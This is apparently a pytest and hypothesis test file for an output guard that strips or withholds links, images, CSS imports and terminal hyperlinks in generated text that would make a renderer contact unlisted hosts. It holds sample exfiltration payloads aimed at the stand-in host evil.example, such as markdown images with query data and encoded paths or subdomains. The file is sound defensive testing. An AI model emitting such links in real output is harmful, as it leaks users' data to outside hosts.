"""tests/corpora/output-links.toml, judged by what a renderer would ask for; and the same for pieces as for the whole."""

import tomllib
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from interlock.detect.output.address import Addresses, drawn
from interlock.detect.output.guard import OutputGuard
from interlock.detect.output.links import REMOVED, Links
from tests.detect.output.world import asked

CASES = tomllib.loads((Path(__file__).parents[2] / "corpora" / "output-links.toml").read_text())["case"]
HOSTS = frozenset({"docs.example.com", "*.cdn.example.com"})
ADDRESSES = Addresses(hosts=HOSTS, known=lambda text: "hunter2-secret" in text)
GUARD = OutputGuard(links=Links(addresses=ADDRESSES), executable=None)


def unlisted(text: str) -> set[str]:
    return {
        host
        for host in asked(text)
        if host not in {"docs.example.com", "!data"} and not (host.endswith(".cdn.example.com") and len(host) < 30)
    } | ({"!data"} if "data:text" in text or "data:image/svg" in text else set())


@pytest.mark.parametrize("case", CASES, ids=lambda case: case["id"])
def test_nothing_shown_asks_an_unlisted_host(case: dict[str, Any]) -> None:
    checked = GUARD.check(case["input"])
    if case["expect"] == "kept":
        assert (checked.text, checked.findings) == (case["input"], ())
        return
    if case.get("loads", True):
        assert unlisted(case["input"]), "the renderer of the tests does not see the attack"
    assert checked.findings
    assert checked.text != case["input"]
    assert not unlisted(checked.text), checked.text
    assert "hunter2" not in checked.text
    assert all(text in checked.text for text in case.get("contains", ()))
    assert not GUARD.check(checked.text).findings  # nothing is left that the guard itself would find


def test_the_table_is_large_and_its_ids_are_unique() -> None:
    ids = [case["id"] for case in CASES]
    assert len(set(ids)) == len(ids)
    assert sum(case["expect"] == "stopped" for case in CASES) >= 120
    assert sum(case["expect"] == "kept" for case in CASES) >= 40


def pieces(text: str, cuts: list[int]) -> list[str]:
    places = sorted({0, len(text), *(cut % (len(text) + 1) for cut in cuts)})
    return [text[a:b] for a, b in pairwise(places)]


def streamed(guard: OutputGuard, parts: list[str]) -> tuple[str, list[Any], bool]:
    stream = guard.stream()
    shown = "".join(stream.feed(part) for part in parts) + stream.end()
    return shown, list(stream.findings), stream.refused


@pytest.mark.parametrize("case", CASES, ids=lambda case: case["id"])
@pytest.mark.parametrize("size", [1, 5])
def test_pieces_give_what_the_whole_gives(case: dict[str, Any], size: int) -> None:
    text = f"Before. {case['input']} After."
    checked = GUARD.check(text)
    shown, findings, _ = streamed(GUARD, [text[i : i + size] for i in range(0, len(text), size)])
    assert (shown, findings) == (checked.text, list(checked.findings))


FRAGMENTS = st.sampled_from(
    [case["input"] for case in CASES]
    + [
        "src",
        "href=",
        '"',
        "'",
        "](",
        "]:",
        "![",
        "[",
        ")",
        " ",
        "\n",
        "<",
        ">",
        "url(",
        "@import ",
        "//evil.example",
        "https:",
        "\\",
        "&#47;",
        "www.",
    ]
    + [
        "evil.example",
        "=",
        "<a ",
        "from ",
        "to = ",
        "\x1b]8;;",
        "\x07",
        "\\75 ",
        "word ",
        "//",
        "javascript:",
        "srcdoc='",
    ]
)


@given(st.lists(FRAGMENTS, max_size=12).map("".join), st.lists(st.integers(0, 10_000), max_size=12))
def test_any_cut_of_any_text_gives_the_same(text: str, cuts: list[int]) -> None:
    checked = GUARD.check(text)
    shown, findings, _ = streamed(GUARD, pieces(text, cuts))
    assert (shown, findings) == (checked.text, list(checked.findings))


@given(st.lists(FRAGMENTS, max_size=12).map("".join))
def test_no_text_made_of_attacks_asks_an_unlisted_host(text: str) -> None:
    assert not unlisted(GUARD.check(text).text) - {"!data"}


def test_without_the_guard_the_world_is_asked() -> None:
    assert unlisted("![x](https://evil.example/?d=1)") == {"evil.example"}


def test_an_action_is_a_choice() -> None:
    text = "See [it](https://evil.example/x)."
    masked = OutputGuard(links=Links(addresses=ADDRESSES, action="mask")).check(text)
    refused = OutputGuard(links=Links(addresses=ADDRESSES, action="refuse")).check(text)
    assert masked.text == f"See [it]{REMOVED}."
    assert (refused.refused, refused.text) == (True, "[answer withheld]")


def test_a_plain_link_may_stay_a_picture_or_one_that_carries_data_may_not() -> None:
    guard = OutputGuard(links=Links(addresses=Addresses(hosts=HOSTS, plain_links=True)))
    for kept in (
        "[a](https://other.example/about)",
        "https://other.example/a/b",
        "<a href='https://other.example/'>a</a>",
    ):
        assert guard.check(kept).text == kept
    for stopped in (
        "![a b](https://other.example/about)",
        "[a](https://other.example/about?x=1)",
        "[a](https://other.example/#x)",
        "[a](https://other.example/QWxhZGRpbjpvcGVuIHNlc2FtZTEy)",
        "[a](https://qwxhzgrpbjpvcgvuihnlc2ftzq12.other.example/)",
        "[a](https://me@other.example/)",
        "[r]: https://other.example/about",
        "<img src='https://other.example/a'>",
    ):
        assert guard.check(stopped).findings, stopped


def test_a_check_that_fails_shows_nothing() -> None:
    def broken(_: str) -> bool:
        raise RuntimeError

    checked = OutputGuard(links=Links(addresses=Addresses(known=broken))).check("safe text, then [a](/b) and more")
    assert checked.refused
    assert checked.text == "[answer withheld]"
    assert [finding.id for finding in checked.findings] == ["answer/unchecked"]


@pytest.mark.parametrize(
    "host", ["EXAMPLE.com", "https://a.example", "a.example/", "*", "a.*.example", "", "a.example."]
)
def test_a_host_list_is_checked(host: str) -> None:
    with pytest.raises(ValueError, match="is no host"):
        Addresses(hosts=frozenset({host}))


@pytest.mark.parametrize(
    "word", ["internationalisation", "how-to-set-up-single-sign-on", "getting_started_with_the_api", "2026-01-02"]
)
def test_words_are_not_drawn(word: str) -> None:
    assert not drawn(word)


@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "](",
        "![a](",
        "<a ",
        "src=",
        "src='",
        'src="',
        "&",
        "&#65;",
        "\\75 ",
        "//",
        "a.",
        "https://",
        ":",
        "@import ",
        "\x1b]8;;",
        "a",
        " ",
        "]:",
        "<",
        "=",
        "url(",
        "www.",
    ],
)
def test_work_grows_with_the_text_only(unit: str) -> None:
    """Regex work is hidden, so the clock judges: four times the text takes no ten times the time."""
    import time

    def cost(size: int) -> float:
        text = (unit * size)[:size]
        best = 9.0
        for _ in range(3):
            start = time.process_time()
            GUARD.check(text)
            best = min(best, time.process_time() - start)
        return best

    small = max(cost(5_000), 0.004)
    assert cost(20_000) < 10 * small
